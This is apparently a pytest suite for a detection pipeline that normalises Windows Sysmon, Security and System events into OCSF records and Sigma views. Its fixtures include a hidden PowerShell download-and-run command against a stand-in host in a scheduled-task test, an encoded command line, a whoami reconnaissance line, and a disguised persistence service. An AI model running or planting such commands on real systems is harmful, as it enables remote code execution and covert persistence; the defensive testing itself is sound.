"""The mapping table: every Windows event it names becomes the OCSF activity it says, field by field, keeps
the original, and reads back under its native names; the shapes an event travels in all give the same row."""

from __future__ import annotations

import copy
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from flows.normalize import get
from flows.store import EventError, event_row
from flows.winlog import (
    TABLE,
    Mapping,
    WindowsEvent,
    mapping_markdown,
    read_windows,
    sigma_view,
    to_ocsf,
)

SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
LOGS = {
    "sysmon": SYSMON,
    "security": ("Microsoft-Windows-Security-Auditing", "Security"),
    "system": ("Service Control Manager", "System"),
    "powershell": ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational"),
}
PROCESS = {
    "Image": "C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe",
    "CommandLine": "a.exe -enc SQBFAFgA",
    "ParentImage": "C:\\Windows\\explorer.exe",
    "ProcessId": 4242,
    "User": "ACME\\bob",
}


def _evtx(
    event_id: int, data: dict[str, Any], log: str = "sysmon", host: str = "WS-ACC-01"
) -> dict[str, Any]:
    provider, channel = LOGS[log]
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": provider}},
                "EventID": event_id,
                "Level": 4,
                "TimeCreated": {"#attributes": {"SystemTime": "2026-11-14T08:52:01.123456Z"}},
                "EventRecordID": 77,
                "Channel": channel,
                "Computer": host,
                "Security": {"#attributes": {"UserID": "S-1-5-18"}},
            },
            "EventData": data,
        }
    }


def _sample(found: Mapping) -> dict[str, Any]:
    """A value for every Windows field the row maps (numbers where OCSF wants numbers)."""
    data: dict[str, Any] = {}
    for name, path in found.fields:
        if path.endswith((".pid", ".port", "_id")):
            data[name] = 3
        elif "|" in path:
            data[name] = f"HKLM\\SOFTWARE\\{name}\\value"
        else:
            data[name] = f"{name}-value"
    if found.event_type:
        data["EventType"] = found.event_type
    return data


WHEN_MS = int(datetime(2026, 11, 14, 8, 52, 1, 123456, tzinfo=UTC).timestamp() * 1000)
ROWS = [
    pytest.param(m, m.event_ids[0], id=f"{m.source}-{m.event_ids[0]}-{m.event_type or ''}") for m in TABLE
]


def _mapped(found: Mapping, event_id: int) -> tuple[dict[str, Any], dict[str, Any]]:
    """A sample event of the row, and the OCSF event it becomes."""
    data = _sample(found)
    event = read_windows(_evtx(event_id, data, found.source))
    assert event is not None
    return data, to_ocsf(event)


@pytest.mark.parametrize(("found", "event_id"), ROWS)
def test_every_row_maps_each_field_and_keeps_the_original(found: Mapping, event_id: int) -> None:
    data, document = _mapped(found, event_id)

    assert (document["class_uid"], document["activity_id"]) == (found.class_uid, found.activity_id)
    assert document["time"] == WHEN_MS and document["device"] == {"hostname": "WS-ACC-01"}
    for name, path in found.fields:
        if "|" in path:
            key, leaf = path.split("|")
            assert get(document, key) == f"HKLM\\SOFTWARE\\{name}"
            assert get(document, f"{key.rsplit('.', 1)[0]}.{leaf}") == "value"
        else:
            assert get(document, path) == data[name], (name, path)
    for path, value in found.constants:
        assert get(document, path) == value
    assert document["unmapped"]["windows"]["event_data"] == data  # nothing lost
    assert document["unmapped"]["windows"]["event_id"] == event_id
    assert event_row(_evtx(event_id, data, found.source), "acme")["class_uid"] == found.class_uid


@pytest.mark.parametrize(("found", "event_id"), ROWS)
def test_an_event_that_came_as_ocsf_reads_back_under_its_native_names(found: Mapping, event_id: int) -> None:
    data, document = _mapped(found, event_id)
    del document["unmapped"]  # as an EDR would send it: OCSF only
    # Rows that share a class, activity and constants read back as the first of them (Sysmon's): an OCSF
    # file creation is a Sysmon 11, whatever wrote it.
    first = next(
        m
        for m in TABLE
        if (m.class_uid, m.activity_id, m.constants) == (found.class_uid, found.activity_id, found.constants)
    )
    shown = [name for name, path in found.fields if not path.startswith("unmapped.")]

    view = sigma_view(document)

    if not shown:  # all it has goes to unmapped: nothing for a rule to read once that is gone
        assert view is None
        return
    assert view is not None
    assert {f"category:{c}" for c in first.categories} <= view.sources
    if first is found:
        assert {name: view.fields.get(name) for name in shown} == {name: data[name] for name in shown}


def test_the_mapping_document_is_the_table() -> None:
    written = (Path(__file__).resolve().parents[2] / "flows" / "winlog" / "MAPPING.md").read_text(
        encoding="utf-8"
    )

    assert written == mapping_markdown()


def test_the_brief_s_events_are_all_mapped() -> None:
    mapped = {(m.source, i) for m in TABLE for i in m.event_ids}

    wanted = {
        ("sysmon", i)
        for i in (1, 3, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 17, 18, 19, 20, 21, 22, 23, 25, 26)
    }
    wanted |= {
        ("security", i)
        for i in (4624, 4625, 4648, 4688, 4697, 4698, 4699, 4700, 4701, 4702, 4720, 4732, 1102)
    }
    wanted |= {("system", 7045)}
    assert wanted <= mapped


def _winlogbeat() -> dict[str, Any]:
    # Winlogbeat's Sysmon module moves Image, CommandLine, ParentImage … out of event_data into ECS fields.
    return {
        "@timestamp": "2026-11-14T08:52:01.123Z",
        "host": {"name": "ws-acc-01.acme.local"},
        "process": {
            "executable": PROCESS["Image"],
            "command_line": PROCESS["CommandLine"],
            "pid": 4242,
            "parent": {"executable": PROCESS["ParentImage"]},
        },
        "winlog": {
            "event_id": "1",
            "provider_name": "Microsoft-Windows-Sysmon",
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "computer_name": "WS-ACC-01",
            "record_id": 77,
            "event_data": {"User": "ACME\\bob"},
        },
    }


def _wazuh() -> dict[str, Any]:
    return {
        "timestamp": "2026-11-14T08:52:01.123+0000",
        "agent": {"name": "WS-ACC-01"},
        "data": {
            "win": {
                "system": {
                    "providerName": "Microsoft-Windows-Sysmon",
                    "eventID": "1",
                    "channel": "Microsoft-Windows-Sysmon/Operational",
                    "computer": "WS-ACC-01",
                    "systemTime": "2026-11-14T08:52:01.1234560Z",
                },
                "eventdata": {
                    "image": PROCESS["Image"],
                    "commandLine": PROCESS["CommandLine"],
                    "parentImage": PROCESS["ParentImage"],
                    "processId": "4242",
                    "user": "ACME\\bob",
                },
            }
        },
    }


@pytest.mark.parametrize(
    "document", [_evtx(1, PROCESS), _winlogbeat(), _wazuh()], ids=["evtx", "winlogbeat", "wazuh"]
)
def test_every_shape_of_one_event_gives_the_same_row(document: dict[str, Any]) -> None:
    row = event_row(copy.deepcopy(document), "acme")

    assert (row["class_uid"], row["hostname"], row["process_path"], row["parent_path"]) == (
        1007,
        "WS-ACC-01",
        PROCESS["Image"],
        PROCESS["ParentImage"],
    )
    assert row["time"].isoformat().startswith("2026-11-14T08:52:01.123")
    assert row["document"]["process"]["cmd_line"] == PROCESS["CommandLine"]
    view = sigma_view(row["document"])
    assert view is not None and view.fields["CommandLine"] == PROCESS["CommandLine"]
    assert {"category:process_creation", "service:sysmon", "product:windows"} <= view.sources


def test_an_event_the_table_does_not_map_is_refused_by_name() -> None:
    with pytest.raises(EventError) as refused:
        event_row(_evtx(255, {"ID": "x"}), "acme")

    assert refused.value.field == "EventID"
    assert "Microsoft-Windows-Sysmon/Operational event 255" in refused.value.message


def test_a_windows_event_without_a_time_is_refused_by_field() -> None:
    document = _evtx(1, PROCESS)
    del document["Event"]["System"]["TimeCreated"]

    with pytest.raises(EventError) as refused:
        event_row(document, "acme")

    assert refused.value.field == "Event.System.TimeCreated"


def test_security_4688_reads_as_a_process_creation_with_sigma_s_names() -> None:
    data = {
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "NewProcessId": "0x1a2c",
        "ProcessId": "0x2f0",
        "ParentProcessName": "C:\\Windows\\explorer.exe",
        "CommandLine": "cmd.exe /c whoami",
        "SubjectUserName": "bob",
    }

    row = event_row(_evtx(4688, data, "security"), "acme")
    view = sigma_view(row["document"])

    assert row["document"]["process"]["pid"] == 0x1A2C and row["parent_path"] == "C:\\Windows\\explorer.exe"
    assert view is not None and view.fields["Image"] == "C:\\Windows\\System32\\cmd.exe"
    assert (
        view.fields["ParentProcessId"] == "0x2f0" and view.fields["NewProcessName"] == data["NewProcessName"]
    )
    assert {"category:process_creation", "service:security"} <= view.sources


def test_sysmon_12_is_told_apart_by_its_event_type() -> None:
    key = {"EventType": "CreateKey", "TargetObject": "HKU\\S-1\\Software\\Run"}
    value = {"EventType": "DeleteValue", "TargetObject": "HKLM\\SOFTWARE\\Run\\start"}

    created, deleted = (event_row(_evtx(12, data), "acme")["document"] for data in (key, value))

    assert (created["class_uid"], created["activity_id"], created["reg_key"]["path"]) == (
        201001,
        1,
        key["TargetObject"],
    )
    assert (deleted["class_uid"], deleted["activity_id"]) == (201002, 4)
    assert deleted["reg_value"] == {"path": "HKLM\\SOFTWARE\\Run", "name": "start"}
    assert "category:registry_delete" in (sigma_view(deleted) or pytest.fail()).sources


def test_a_scheduled_task_s_command_comes_out_of_its_xml() -> None:
    content = (
        "<?xml version='1.0'?><Task><Actions><Exec><Command>powershell.exe</Command>"
        "<Arguments>-w hidden -c &quot;iex(irm hxxp://x)&quot;</Arguments></Exec></Actions></Task>"
    )

    document = event_row(
        _evtx(4698, {"TaskName": "\\Microsoft\\Windows\\Bluetooths", "TaskContent": content}, "security"),
        "acme",
    )["document"]

    assert document["job"]["name"] == "\\Microsoft\\Windows\\Bluetooths"
    assert document["job"]["cmd_line"] == 'powershell.exe -w hidden -c "iex(irm hxxp://x)"'


def test_an_unsigned_module_has_no_signature_and_a_valid_one_says_so() -> None:
    base = {
        "Image": "C:\\Users\\bob\\AppData\\Roaming\\SoftUpd.exe",
        "ImageLoaded": "C:\\Users\\bob\\AppData\\Roaming\\MSVCR110.dll",
    }

    unsigned = event_row(_evtx(7, {**base, "Signed": "false", "SignatureStatus": "Unavailable"}), "acme")
    signed = event_row(
        _evtx(7, {**base, "Signed": "true", "Signature": "Microsoft", "SignatureStatus": "Valid"}), "acme"
    )

    assert "signature" not in unsigned["document"]["module"]["file"]
    assert signed["document"]["module"]["file"]["signature"]["state_id"] == 1
    assert unsigned["process_path"] == base["Image"]


def test_a_service_installed_on_the_host_is_persistence_to_triage() -> None:
    from flows.models import Alert
    from flows.tenants import Policy
    from flows.triage import MemoryTelemetry, triage

    service = {"ServiceName": "Software Update", "ImagePath": "C:\\Users\\bob\\AppData\\Roaming\\SoftUpd.exe"}
    rows = [event_row(_evtx(7045, service, "system"), "acme")]
    alert = Alert.model_validate(
        {
            "class_uid": 2004,
            "time": 1794560000000,
            "metadata": {"tenant_uid": "acme"},
            "finding_info": {"title": "Suspicious activity on WS-ACC-01"},
            "device": {"hostname": "WS-ACC-01"},
        }
    )

    result = triage([alert], [], Policy(), MemoryTelemetry(rows), datetime(2026, 11, 15, tzinfo=UTC))

    assert 'service "Software Update"' in result.features["persistence"]


def test_a_kept_event_is_the_windows_event() -> None:
    event = read_windows(_evtx(1, PROCESS))

    assert isinstance(event, WindowsEvent)
    assert event.kept()["system"] == {"Level": 4}
    assert (event.provider, event.channel, event.record_id, event.user_sid) == (*SYSMON, 77, "S-1-5-18")
